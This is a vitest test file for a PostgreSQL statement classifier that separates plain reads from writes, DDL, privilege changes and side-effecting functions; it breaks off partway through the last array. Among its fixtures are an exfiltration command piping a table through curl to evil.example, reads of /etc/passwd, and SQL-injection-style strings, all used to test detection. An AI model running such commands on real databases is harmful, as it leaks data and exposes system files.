import { beforeAll, describe, expect, it } from 'vitest';
import { classify, loadParser } from './classify.js';
import { STATEMENT_KINDS } from './facts.js';
import type { CopyFacts, CursorFacts, PreparedFacts, SettingFacts, StatementFacts, StatementKind, TransactionFacts } from './facts.js';

beforeAll(async () => {
  await loadParser();
});

function statements(sql: string): StatementFacts[] {
  const result = classify(sql);
  if (!result.ok) throw new Error(`expected ${JSON.stringify(sql)} to parse, got: ${result.error}`);
  return result.statements;
}

function only(sql: string): StatementFacts {
  const all = statements(sql);
  expect(all).toHaveLength(1);
  return all[0] as StatementFacts;
}

/** 'a.b' → 'a.b', unqualified → 'b'; sorted, so tests do not depend on walk order. */
function names(refs: readonly { schema: string | null; name: string }[]): string[] {
  return refs.map((r) => (r.schema === null ? r.name : `${r.schema}.${r.name}`)).sort();
}

// psql's own catalog queries (captured with `psql -E` against PostgreSQL 15).
const PSQL_DT = `SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;`;
const PSQL_D_1 = `SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(pg_class)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;`;
const PSQL_D_2 = `SELECT c.relchecks, c.relkind, c.relhasindex, c.relhasrules, c.relhastriggers, c.relrowsecurity, c.relforcerowsecurity, false AS relhasoids, c.relispartition, '', c.reltablespace, CASE WHEN c.reloftype = 0 THEN '' ELSE c.reloftype::pg_catalog.regtype::pg_catalog.text END, c.relpersistence, c.relreplident, am.amname
FROM pg_catalog.pg_class c
 LEFT JOIN pg_catalog.pg_class tc ON (c.reltoastrelid = tc.oid)
LEFT JOIN pg_catalog.pg_am am ON (c.relam = am.oid)
WHERE c.oid = '1259';`;
const PSQL_D_3 = `SELECT a.attname,
  pg_catalog.format_type(a.atttypid, a.atttypmod),
  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)
   FROM pg_catalog.pg_attrdef d
   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),
  a.attnotnull,
  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t
   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,
  a.attidentity,
  a.attgenerated
FROM pg_catalog.pg_attribute a
WHERE a.attrelid = '1259' AND a.attnum > 0 AND NOT a.attisdropped
ORDER BY a.attnum;`;
const PSQL_L = `SELECT d.datname as "Name",
       pg_catalog.pg_get_userbyid(d.datdba) as "Owner",
       pg_catalog.pg_encoding_to_char(d.encoding) as "Encoding",
       d.datcollate as "Collate",
       d.datctype as "Ctype",
       d.daticulocale as "ICU Locale",
       CASE d.datlocprovider WHEN 'c' THEN 'libc' WHEN 'i' THEN 'icu' END AS "Locale Provider",
       pg_catalog.array_to_string(d.datacl, E'\\n') AS "Access privileges"
FROM pg_catalog.pg_database d
ORDER BY 1;`;
const PSQL_DU = `SELECT r.rolname, r.rolsuper, r.rolinherit,
  r.rolcreaterole, r.rolcreatedb, r.rolcanlogin,
  r.rolconnlimit, r.rolvaliduntil,
  ARRAY(SELECT b.rolname
        FROM pg_catalog.pg_auth_members m
        JOIN pg_catalog.pg_roles b ON (m.roleid = b.oid)
        WHERE m.member = r.oid) as memberof
, r.rolreplication
, r.rolbypassrls
FROM pg_catalog.pg_roles r
WHERE r.rolname !~ '^pg_'
ORDER BY 1;`;

/** Statements that are plain reads and must stay so. */
const READS: readonly string[] = [
  'SELECT 1',
  'select * from users',
  'SELECT deleted_at, drop_count, update_time, insert_id FROM events',
  'SELECT "DELETE", "drop", "truncate" FROM t',
  'SELECT * FROM "DELETE"',
  "SELECT 'DROP TABLE users; --' AS s",
  "SELECT 'x''; DROP TABLE t; --'",
  "SELECT E'\\'; DROP TABLE t; --'",
  'SELECT $$ DROP TABLE t $$',
  'SELECT $body$ DELETE FROM t; $body$ AS code',
  "SELECT $a$ ' $b$ DELETE FROM t; $b$ $a$",
  "SELECT U&'d\\0065lete' FROM t",
  'SELECT U&"d\\0065lete" FROM t',
  "SELECT U&'!0044ROP' UESCAPE '!'",
  'SELECT 1 /* DELETE FROM t */',
  'SELECT /* outer /* nested DROP TABLE t; */ still a comment; DELETE FROM t */ 1',
  '-- DROP TABLE t\nSELECT 1',
  'SELECT 1 -- ; DELETE FROM t',
  'SeLeCt * FrOm UsErS',
  'SELECT 1;',
  'SELECT count(*) OVER (PARTITION BY a ORDER BY b ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM t',
  'SELECT rank() OVER w FROM t WINDOW w AS (ORDER BY a)',
  'SELECT json_agg(row_to_json(u)) FROM users u',
  "SELECT jsonb_build_object('a', 1) -> 'a'",
  "SELECT data->>'name' FROM docs WHERE data @> '{\"drop\": true}'",
  'VALUES (1), (2)',
  'TABLE users',
  'SELECT 1 UNION SELECT 2 INTERSECT SELECT 3 EXCEPT SELECT 4',
  'WITH a AS (SELECT 1) SELECT * FROM a',
  'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r',
  'WITH a AS MATERIALIZED (SELECT * FROM t) SELECT * FROM a',
  'SELECT * FROM (SELECT * FROM t) sub',
  'SELECT * FROM t WHERE id IN (SELECT id FROM u)',
  'SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)',
  'SELECT * FROM t JOIN u USING (id) LEFT JOIN v ON v.x = t.x CROSS JOIN w',
  'SELECT * FROM t, LATERAL (SELECT * FROM u WHERE u.t_id = t.id LIMIT 1) l',
  'SELECT * FROM generate_series(1, 10) g',
  'SELECT pg_sleep(0)',
  "SELECT currval('s'), lastval()",
  'SELECT txid_current_if_assigned(), pg_current_xact_id_if_assigned()',
  'SELECT now(), current_user, session_user, version()',
  'SELECT x::int, CAST(y AS text), z::regclass FROM t',
  'SELECT * FROM t ORDER BY created_at DESC NULLS LAST LIMIT 10 OFFSET 5',
  'SELECT a, sum(b) FROM t GROUP BY ROLLUP (a) HAVING sum(b) > 1',
  'SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b',
  'SELECT * FROM t TABLESAMPLE SYSTEM (10)',
  'SELECT * FROM pg_stat_activity',
  "SELECT 'nextval(''s'')', 'set_config' AS set_config",
  'SELECT 1 AS "pg_terminate_backend"',
  'SELECT t.nextval FROM t',
  'SELECT * FROM t WHERE a BETWEEN 1 AND 2 AND b IS NOT NULL AND c LIKE \'x%\'',
  "SELECT * FROM xmltable('/r' PASSING '<r/>' COLUMNS a int)",
  'SELECT CASE WHEN a THEN 1 ELSE 2 END, COALESCE(a, b), NULLIF(a, b), GREATEST(a, b) FROM t',
  'SELECT ARRAY(SELECT id FROM t), ROW(1, 2)',
  PSQL_DT,
  PSQL_D_1,
  PSQL_D_2,
  PSQL_D_3,
  PSQL_L,
  PSQL_DU,
];

describe('plain reads', () => {
  it.each(READS)('%s', (sql) => {
    const facts = only(sql);
    expect(facts.kind).toBe('read');
    expect(facts.writes).toEqual([]);
    expect(facts.sideEffectFunctions).toEqual([]);
    expect(facts.modifyingCte).toBe(false);
    expect(facts.selectInto).toBe(false);
    expect(facts.locking).toBe(false);
  });
});

/** Read-only statements that are not SELECTs. */
const OTHER_READS: readonly (readonly [string, string])[] = [
  ['SHOW search_path', 'SHOW'],
  ['SHOW ALL', 'SHOW'],
  ['EXPLAIN SELECT * FROM t', 'EXPLAIN'],
  ['EXPLAIN (FORMAT JSON, VERBOSE, COSTS OFF) SELECT * FROM t', 'EXPLAIN'],
  ['EXPLAIN DELETE FROM t', 'EXPLAIN'],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', 'EXPLAIN'],
  ['EXPLAIN (ANALYZE off) UPDATE t SET a = 1', 'EXPLAIN'],
  ['EXPLAIN (ANALYZE 0) INSERT INTO t VALUES (1)', 'EXPLAIN'],
  ['EXPLAIN ANALYZE SELECT * FROM t', 'EXPLAIN'],
  ['EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM t', 'EXPLAIN'],
  ['DECLARE c CURSOR FOR SELECT * FROM t', 'DECLARE CURSOR'],
  ['DECLARE c BINARY SCROLL CURSOR WITH HOLD FOR SELECT 1', 'DECLARE CURSOR'],
  ['FETCH 10 FROM c', 'FETCH'],
  ['FETCH ALL c', 'FETCH'],
  ['FETCH BACKWARD 2 IN c', 'FETCH'],
  ['MOVE NEXT IN c', 'MOVE'],
  ['CLOSE c', 'CLOSE CURSOR'],
  ['CLOSE ALL', 'CLOSE CURSOR ALL'],
  ['COPY t TO STDOUT', 'COPY'],
  ['COPY s.t (a, b) TO STDOUT', 'COPY'],
  ['COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv, HEADER)', 'COPY'],
  ['PREPARE p AS SELECT * FROM t WHERE id = $1', 'PREPARE'],
  ['PREPARE p (int) AS VALUES ($1)', 'PREPARE'],
];

describe('other reads', () => {
  it.each(OTHER_READS)('%s', (sql, command) => {
    const facts = only(sql);
    expect(facts.kind).toBe('read');
    expect(facts.command).toBe(command);
    expect(facts.writes).toEqual([]);
  });
});

/** Statements that look like (or contain) reads but are not plain reads. */
const NOT_READS: readonly (readonly [string, StatementKind, Partial<StatementFacts>])[] = [
  // Data-modifying CTEs, at any depth.
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'write', { modifyingCte: true }],
  ['WITH a AS (SELECT 1), b AS (UPDATE t SET x = 1 WHERE id = 1 RETURNING *) SELECT * FROM a', 'write', { modifyingCte: true }],
  ['WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1', 'write', { modifyingCte: true }],
  ['with "select" as (delete from t returning *) select * from "select"', 'write', { modifyingCte: true }],
  ['SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s', 'write', { modifyingCte: true }],
  ['SELECT * FROM t WHERE id IN (WITH d AS (INSERT INTO u VALUES (1) RETURNING id) SELECT id FROM d)', 'write', { modifyingCte: true }],
  ['WITH x AS (WITH y AS (DELETE FROM t RETURNING *) SELECT * FROM y) SELECT * FROM x', 'write', { modifyingCte: true }],
  ['SELECT 1 UNION ALL (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d)', 'write', { modifyingCte: true }],
  ['SELECT (SELECT (WITH d AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM d))', 'write', { modifyingCte: true }],
  ['WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING t.*) SELECT * FROM m', 'write', { modifyingCte: true }],
  ['VALUES ((WITH d AS (DELETE FROM t RETURNING 1) SELECT 1))', 'write', { modifyingCte: true }],
  // EXPLAIN ANALYZE runs its statement.
  ['EXPLAIN ANALYZE DELETE FROM t', 'write', { explainAnalyze: true }],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', 'write', { explainAnalyze: true }],
  ['EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)', 'write', { explainAnalyze: true }],
  ['EXPLAIN (ANALYZE on, FORMAT JSON) MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'write', { explainAnalyze: true }],
  ['EXPLAIN (ANALYZE maybe) DELETE FROM t', 'write', { explainAnalyze: true }],
  ['EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'write', { explainAnalyze: true, modifyingCte: true }],
  ['EXPLAIN ANALYZE SELECT * INTO t2 FROM t', 'write', { explainAnalyze: true, selectInto: true }],
  ['EXPLAIN ANALYZE SELECT * FROM t FOR UPDATE', 'write', { explainAnalyze: true, locking: true }],
  ['EXPLAIN ANALYZE CREATE TABLE t2 AS SELECT 1', 'ddl', { explainAnalyze: true }],
  ['EXPLAIN ANALYZE EXECUTE p', 'unknown', { explainAnalyze: true }],
  // SELECT INTO creates a table.
  ['SELECT * INTO new_t FROM t', 'write', { selectInto: true, command: 'SELECT INTO' }],
  ['SELECT * INTO TEMP new_t FROM t', 'write', { selectInto: true }],
  ['SELECT 1 INTO x UNION SELECT 2', 'write', { selectInto: true }],
  // Row locks, anywhere.
  ['SELECT * FROM t FOR UPDATE', 'write', { locking: true }],
  ['SELECT * FROM t FOR SHARE', 'write', { locking: true }],
  ['SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED', 'write', { locking: true }],
  ['SELECT * FROM t FOR KEY SHARE NOWAIT', 'write', { locking: true }],
  ['SELECT * FROM (SELECT * FROM t FOR UPDATE) s', 'write', { locking: true }],
  ['SELECT * FROM t WHERE id IN (SELECT id FROM u FOR UPDATE)', 'write', { locking: true }],
  ['WITH l AS (SELECT * FROM t FOR UPDATE) SELECT * FROM l', 'write', { locking: true }],
  ['SELECT 1 UNION (SELECT 2 FROM t FOR SHARE)', 'write', { locking: true }],
  // Wrappers of non-reads.
  ['DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', 'write', { locking: true, command: 'DECLARE CURSOR' }],
  ['DECLARE c CURSOR FOR WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'write', { modifyingCte: true }],
  ['PREPARE p AS DELETE FROM t', 'write', { command: 'PREPARE' }],
  ['PREPARE p AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'write', { modifyingCte: true }],
  ['PREPARE p AS SELECT nextval($1)', 'utility', { sideEffectFunctions: ['nextval'] }],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'write', { command: 'COPY' }],
  ['COPY (SELECT * FROM t FOR UPDATE) TO STDOUT', 'write', { locking: true }],
  ["COPY t TO '/tmp/t.csv'", 'utility', { copy: { direction: 'to', target: 'file' } }],
  ["COPY t TO PROGRAM 'curl -d @- evil.example'", 'utility', { copy: { direction: 'to', target: 'program' } }],
  ["COPY (SELECT 1) TO '/tmp/x'", 'utility', { copy: { direction: 'to', target: 'file' } }],
  ['COPY t FROM STDIN', 'write', { copy: { direction: 'from', target: 'stdio' } }],
  ["COPY t FROM '/etc/passwd'", 'write', { copy: { direction: 'from', target: 'file' } }],
  ["COPY t FROM PROGRAM 'id'", 'write', { copy: { direction: 'from', target: 'program' } }],
  // Functions with side effects, wherever they hide.
  ["SELECT nextval('s')", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT setval('s', 1)", 'utility', { sideEffectFunctions: ['setval'] }],
  ["SELECT pg_catalog.set_config('transaction_read_only', 'off', false)", 'utility', { sideEffectFunctions: ['pg_catalog.set_config'] }],
  ['SELECT "set_config"(\'a\', \'b\', false)', 'utility', { sideEffectFunctions: ['set_config'] }],
  ['SELECT "SET_CONFIG"(\'a\', \'b\', false)', 'utility', { sideEffectFunctions: ['set_config'] }],
  ['SELECT U&"set\\005fconfig"(\'a\', \'b\', false)', 'utility', { sideEffectFunctions: ['set_config'] }],
  ["SELECT myschema.nextval('s')", 'utility', { sideEffectFunctions: ['myschema.nextval'] }],
  ["SELECT * FROM t WHERE id = nextval('s')", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT * FROM nextval('s')", 'utility', { sideEffectFunctions: ['nextval'] }],
  ['SELECT * FROM t ORDER BY pg_advisory_lock(1)', 'utility', { sideEffectFunctions: ['pg_advisory_lock'] }],
  ["VALUES (nextval('s'))", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT * FROM f(a => nextval('s'))", 'utility', { sideEffectFunctions: ['nextval'] }],
  ['SELECT coalesce(NULL, pg_terminate_backend(123))', 'utility', { sideEffectFunctions: ['pg_terminate_backend'] }],
  ['SELECT CASE WHEN true THEN pg_cancel_backend(1) END', 'utility', { sideEffectFunctions: ['pg_cancel_backend'] }],
  ["SELECT pg_read_file('/etc/passwd')", 'utility', { sideEffectFunctions: ['pg_read_file'] }],
  ["SELECT pg_ls_dir('.')", 'utility', { sideEffectFunctions: ['pg_ls_dir'] }],
  ["SELECT lo_import('/etc/passwd')", 'utility', { sideEffectFunctions: ['lo_import'] }],
  ["SELECT lo_export(1, '/tmp/x')", 'utility', { sideEffectFunctions: ['lo_export'] }],
  ['SELECT pg_catalog.lo_unlink(1)', 'utility', { sideEffectFunctions: ['pg_catalog.lo_unlink'] }],
  ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", 'utility', { sideEffectFunctions: ['query_to_xml'] }],
  ["SELECT dblink_exec('dbname=x', 'DROP TABLE t')", 'utility', { sideEffectFunctions: ['dblink_exec'] }],
  ["SELECT pg_notify('c', 'x')", 'utility', { sideEffectFunctions: ['pg_notify'] }],
  ['SELECT txid_current()', 'utility', { sideEffectFunctions: ['txid_current'] }],
  ['SELECT pg_reload_conf()', 'utility', { sideEffectFunctions: ['pg_reload_conf'] }],
  ['SELECT pg_stat_reset()', 'utility', { sideEffectFunctions: ['pg_stat_reset'] }],
  ["SELECT pg_create_logical_replication_slot('s', 'pgoutput')", 'utility', { sideEffectFunctions: ['pg_create_logical_replication_slot'] }],
  ['SELECT pg_switch_wal()', 'utility', { sideEffectFunctions: ['pg_switch_wal'] }],
  ["WITH s AS (SELECT nextval('s')) SELECT * FROM s", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT (SELECT (SELECT set_config('a', 'b', false)))", 'utility', { sideEffectFunctions: ['set_config'] }],
  ['SELECT array_agg(x ORDER BY pg_advisory_xact_lock(x)) FROM t', 'utility', { sideEffectFunctions: ['pg_advisory_xact_lock'] }],
  ['SELECT count(*) FILTER (WHERE pg_try_advisory_lock(1)) FROM t', 'utility', { sideEffectFunctions: ['pg_try_advisory_lock'] }],
  ["SELECT * FROM ROWS FROM (generate_series(1, 2), nextval('s'))", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT * FROM t WHERE x = ANY(ARRAY[nextval('s')])", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT * FROM t LIMIT nextval('s')", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT a FROM t GROUP BY a HAVING max(setval('s', 1)) > 0", 'utility', { sideEffectFunctions: ['setval'] }],
  ["SELECT 1 FROM t JOIN u ON pg_notify('a', 'b') IS NULL", 'utility', { sideEffectFunctions: ['pg_notify'] }],
  ["SELECT sum(x) OVER (ORDER BY nextval('s')) FROM t", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT 1 UNION SELECT pg_advisory_lock(2)", 'utility', { sideEffectFunctions: ['pg_advisory_lock'] }],
  ["SELECT nextval('s') /* just a read */", 'utility', { sideEffectFunctions: ['nextval'] }],
  ["SELECT set_config('default_transaction_read_only', 'off', false) -- only reads a setting", 'utility', { sideEffectFunctions: ['set_config'] }],
  ['EXPLAIN ANALYZE SELECT nextval(\'s\')', 'utility', { explainAnalyze: true, sideEffectFunctions: ['nextval'] }],
  ['DECLARE c CURSOR FOR SELECT pg_advisory_lock(1)', 'utility', { sideEffectFunctions: ['pg_advisory_lock'] }],
  ["COPY (SELECT set_config('a', 'b', false)) TO STDOUT", 'utility', { sideEffectFunctions: ['set_config'] }],
  ["EXECUTE p(nextval('s'))", 'utility', { sideEffectFunctions: ['nextval'] }],
];

describe('writes and side effects hidden in reads', () => {
  it.each(NOT_READS)('%s', (sql, kind, partial) => {
    const facts = only(sql);
    expect(facts.kind).not.toBe('read');
    expect(facts.kind).toBe(kind);
    expect(facts).toMatchObject(partial);
  });

  it('bubbles functions up from EXPLAIN without ANALYZE, which plans but does not run', () => {
    const facts = only("EXPLAIN SELECT nextval('s')");
    expect(facts.kind).toBe('read');
    expect(facts.explainAnalyze).toBe(false);
    expect(facts.sideEffectFunctions).toEqual(['nextval']);
    expect(facts.inner?.kind).toBe('utility');
  });
});

/** Statement kinds, including strings of several statements. */
const KINDS: readonly (readonly [string, readonly StatementKind[], string?])[] = [
  // Several statements in one string: each is judged.
  ['SELECT 1; DELETE FROM t', ['read', 'write']],
  ['COMMIT; DROP TABLE t', ['transaction', 'ddl']],
  ['ROLLBACK; BEGIN READ WRITE; DELETE FROM t; COMMIT', ['transaction', 'transaction', 'write', 'transaction']],
  ["SELECT 'a;b'; SELECT 2", ['read', 'read']],
  ['SELECT 1;;; SELECT 2', ['read', 'read']],
  ['SELECT $$;$$; TRUNCATE t', ['read', 'write']],
  ["SELECT ';' /* ; */ ; SET ROLE postgres", ['read', 'session']],
  ['SELECT 1 --\n; DELETE FROM t', ['read', 'write']],
  ["SELECT E'\\\\'; DELETE FROM t; --'", ['read', 'write']],
  ["SELECT 'it''s'; UPDATE t SET a = 1", ['read', 'write']],
  ['/* ; */ SELECT 1 -- ; DELETE FROM t', ['read']],
  ['SHOW search_path; RESET ALL', ['read', 'session']],
  // write
  ['INSERT INTO t VALUES (1)', ['write'], 'INSERT'],
  ['INSERT INTO t SELECT * FROM u', ['write'], 'INSERT'],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', ['write'], 'INSERT'],
  ['UPDATE t SET a = 1 WHERE id = 1', ['write'], 'UPDATE'],
  ['DELETE FROM t WHERE id = 1', ['write'], 'DELETE'],
  ['delete FROM "DELETE"', ['write'], 'DELETE'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', ['write'], 'MERGE'],
  ['TRUNCATE t', ['write'], 'TRUNCATE TABLE'],
  ['TRUNCATE TABLE a, b RESTART IDENTITY CASCADE', ['write'], 'TRUNCATE TABLE'],
  // ddl
  ['CREATE TABLE t (id int)', ['ddl'], 'CREATE TABLE'],
  ['CREATE TEMP TABLE t (id int)', ['ddl'], 'CREATE TABLE'],
  ['CREATE TABLE t2 AS SELECT * FROM t', ['ddl'], 'CREATE TABLE AS'],
  ['CREATE MATERIALIZED VIEW mv AS SELECT 1', ['ddl'], 'CREATE MATERIALIZED VIEW'],
  ['CREATE VIEW v AS SELECT * FROM t', ['ddl'], 'CREATE VIEW'],
  ['CREATE INDEX i ON t (a)', ['ddl'], 'CREATE INDEX'],
  ['CREATE UNIQUE INDEX CONCURRENTLY i ON t (a)', ['ddl'], 'CREATE INDEX'],
  ['ALTER TABLE t ADD COLUMN c int', ['ddl'], 'ALTER TABLE'],
  ['ALTER TABLE t DROP COLUMN c', ['ddl'], 'ALTER TABLE'],
  ['ALTER TABLE t RENAME TO u', ['ddl'], 'ALTER TABLE'],
  ['ALTER TABLE t RENAME COLUMN a TO b', ['ddl'], 'ALTER TABLE'],
  ['ALTER INDEX i RENAME TO j', ['ddl'], 'ALTER INDEX'],
  ['ALTER TABLE t SET SCHEMA s', ['ddl'], 'ALTER TABLE'],
  ['DROP TABLE t', ['ddl'], 'DROP TABLE'],
  ['DROP TABLE IF EXISTS t CASCADE', ['ddl'], 'DROP TABLE'],
  ['DROP VIEW v', ['ddl'], 'DROP VIEW'],
  ['DROP MATERIALIZED VIEW mv', ['ddl'], 'DROP MATERIALIZED VIEW'],
  ['DROP INDEX CONCURRENTLY i', ['ddl'], 'DROP INDEX'],
  ['DROP SCHEMA s CASCADE', ['ddl'], 'DROP SCHEMA'],
  ['DROP DATABASE d', ['ddl'], 'DROP DATABASE'],
  ['DROP FUNCTION f(int)', ['ddl'], 'DROP FUNCTION'],
  ['DROP EXTENSION e', ['ddl'], 'DROP EXTENSION'],
  ['CREATE SCHEMA s', ['ddl'], 'CREATE SCHEMA'],
  ['CREATE SEQUENCE s', ['ddl'], 'CREATE SEQUENCE'],
  ['ALTER SEQUENCE s RESTART', ['ddl'], 'ALTER SEQUENCE'],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', ['ddl'], 'CREATE FUNCTION'],
  ['CREATE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$', ['ddl'], 'CREATE PROCEDURE'],
  ['CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT 1; END', ['ddl'], 'CREATE FUNCTION'],
  ['ALTER FUNCTION f() RENAME TO g', ['ddl'], 'ALTER FUNCTION'],
  ['CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', ['ddl'], 'CREATE TRIGGER'],
  ['CREATE EXTENSION pgcrypto', ['ddl'], 'CREATE EXTENSION'],
  ["CREATE TYPE mood AS ENUM ('sad', 'ok')", ['ddl'], 'CREATE TYPE'],
  ['CREATE DOMAIN d AS int CHECK (VALUE > 0)', ['ddl'], 'CREATE DOMAIN'],
  ['CREATE AGGREGATE a(int) (sfunc = f, stype = int)', ['ddl'], 'CREATE AGGREGATE'],
  ["COMMENT ON TABLE t IS 'DROP'", ['ddl'], 'COMMENT'],
  ["SECURITY LABEL ON TABLE t IS 'x'", ['ddl'], 'SECURITY LABEL'],
  ['REFRESH MATERIALIZED VIEW CONCURRENTLY mv', ['ddl'], 'REFRESH MATERIALIZED VIEW'],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING', ['ddl'], 'CREATE RULE'],
  ['CREATE DATABASE d', ['ddl'], 'CREATE DATABASE'],
  ['ALTER DATABASE d SET work_mem = 1', ['ddl'], 'ALTER DATABASE'],
  ['CREATE PUBLICATION p FOR ALL TABLES', ['ddl'], 'CREATE PUBLICATION'],
  ['IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public', ['ddl'], 'IMPORT FOREIGN SCHEMA'],
  // privilege
  ['GRANT SELECT ON t TO bob', ['privilege'], 'GRANT'],
  ['REVOKE SELECT ON t FROM bob', ['privilege'], 'REVOKE'],
  ['GRANT admin TO bob', ['privilege'], 'GRANT ROLE'],
  ['REVOKE admin FROM bob', ['privilege'], 'REVOKE ROLE'],
  ['CREATE ROLE r LOGIN SUPERUSER', ['privilege'], 'CREATE ROLE'],
  ["CREATE USER u WITH PASSWORD 'x'", ['privilege'], 'CREATE ROLE'],
  ['ALTER ROLE r SUPERUSER', ['privilege'], 'ALTER ROLE'],
  ["ALTER USER u WITH PASSWORD 'x'", ['privilege'], 'ALTER ROLE'],
  ['ALTER ROLE r SET default_transaction_read_only = off', ['privilege'], 'ALTER ROLE'],
  ['ALTER ROLE r RENAME TO s', ['privilege'], 'ALTER ROLE'],
  ['DROP ROLE r', ['privilege'], 'DROP ROLE'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', ['privilege'], 'ALTER DEFAULT PRIVILEGES'],
  ['REASSIGN OWNED BY a TO b', ['privilege'], 'REASSIGN OWNED'],
  ['DROP OWNED BY a', ['privilege'], 'DROP OWNED'],
  ['ALTER TABLE t OWNER TO bob', ['privilege'], 'ALTER TABLE'],
  ['ALTER FUNCTION f() OWNER TO bob', ['privilege'], 'ALTER FUNCTION'],
  ['CREATE POLICY p ON t USING (true)', ['privilege'], 'CREATE POLICY'],
  ['ALTER POLICY p ON t USING (true)', ['privilege'], 'ALTER POLICY'],
  ['DROP POLICY p ON t', ['privilege'], 'DROP POLICY'],
  ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', ['privilege'], 'ALTER TABLE'],
  ['ALTER TABLE t ADD COLUMN c int, NO FORCE ROW LEVEL SECURITY', ['privilege'], 'ALTER TABLE'],
  ["CREATE USER MAPPING FOR bob SERVER s OPTIONS (user 'x')", ['privilege'], 'CREATE USER MAPPING'],
  // session
  ['SET search_path = public', ['session'], 'SET'],
  ['RESET search_path', ['session'], 'RESET'],
  ['RESET ALL', ['session'], 'RESET'],
  ['SET ROLE postgres', ['session'], 'SET'],
  ['SET SESSION AUTHORIZATION postgres', ['session'], 'SET'],
  ['DISCARD ALL', ['session'], 'DISCARD'],
  ['SET CONSTRAINTS ALL DEFERRED', ['session'], 'SET CONSTRAINTS'],
  ['DEALLOCATE p', ['session'], 'DEALLOCATE'],
  ['DEALLOCATE ALL', ['session'], 'DEALLOCATE ALL'],
  ['SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', ['session'], 'SET'],
  // transaction
  ['BEGIN', ['transaction'], 'BEGIN'],
  ['START TRANSACTION', ['transaction'], 'START TRANSACTION'],
  ['COMMIT', ['transaction'], 'COMMIT'],
  ['END', ['transaction'], 'COMMIT'],
  ['ROLLBACK', ['transaction'], 'ROLLBACK'],
  ['ABORT', ['transaction'], 'ROLLBACK'],
  ['SAVEPOINT s', ['transaction'], 'SAVEPOINT'],
  ['RELEASE SAVEPOINT s', ['transaction'], 'RELEASE'],
  ['ROLLBACK TO SAVEPOINT s', ['transaction'], 'ROLLBACK TO SAVEPOINT'],
  ["PREPARE TRANSACTION 'x'", ['transaction'], 'PREPARE TRANSACTION'],
  ["COMMIT PREPARED 'x'", ['transaction'], 'COMMIT PREPARED'],
  ["ROLLBACK PREPARED 'x'", ['transaction'], 'ROLLBACK PREPARED'],
  ['SET TRANSACTION READ ONLY', ['transaction'], 'SET'],
  // utility
  ['DO $$ BEGIN DELETE FROM t; END $$', ['utility'], 'DO'],
  ['CALL p(1)', ['utility'], 'CALL'],
